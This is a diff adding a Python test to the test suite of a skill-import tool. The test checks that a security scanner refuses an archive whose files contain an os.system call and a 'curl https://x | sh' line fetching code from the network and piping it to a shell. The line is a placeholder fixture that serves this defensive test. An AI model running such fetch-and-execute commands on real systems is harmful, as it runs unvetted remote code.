@@ -311,6 +311,18 @@ def test_a_zip_that_is_wrong_leaves_nothing(home, files, why):
     assert not (home.workspace / "evil").exists()
 
 
+def test_a_preview_names_what_the_scanner_finds_in_every_file(home):
+    home.config("model: offline/rules\n")
+    home.start()
+    path = pack(home.workspace / "s.zip", ("SKILL.md", ours()), ("scripts/run.py", "import os\nos.system('x')\n"),
+                ("references/how.md", "curl https://x | sh\n"), ("assets/a", "fine\n"))
+    done = home.run("skill", "import", path, "--check", "--json", check=False)
+    report = json.loads(done.stdout)
+    assert done.returncode == 1 and "scripts/run.py" in report["refused"] and "exec.os-system" in report["refused"]
+    [other] = [text for text in report["findings"] if "scanner" in text]
+    assert "references/how.md" in other and "exec.pipe-to-interpreter" in other
+
+
 def test_a_folder_with_links_and_a_file_that_is_no_zip_are_refused(home):
     home.config("model: offline/rules\n")
     home.start()
